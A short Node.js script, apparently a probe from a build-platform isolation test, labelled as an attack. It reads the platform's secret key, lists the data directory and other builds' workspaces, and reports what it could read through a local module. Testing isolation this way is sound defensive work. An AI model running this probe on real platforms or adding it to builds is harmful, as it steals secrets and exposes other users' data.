// Attack: read the platform's secret key and list its data directory (artifacts, routes, the
// build cache, other builds' workspaces).
const fs = require('fs');
const { params, publish } = require('./report');

const reads = {};
for (const f of params().paths) {
  try {
    reads[f] = fs.statSync(f).isDirectory() ? 'LISTED ' + fs.readdirSync(f).join(',') : 'READ ' + fs.readFileSync(f, 'utf8');
  } catch (e) {
    reads[f] = (e.code === 'ENOENT' ? 'MISSING ' : 'DENIED ') + e.code;
  }
}
publish('SNOOP', { cwd: process.cwd(), reads });
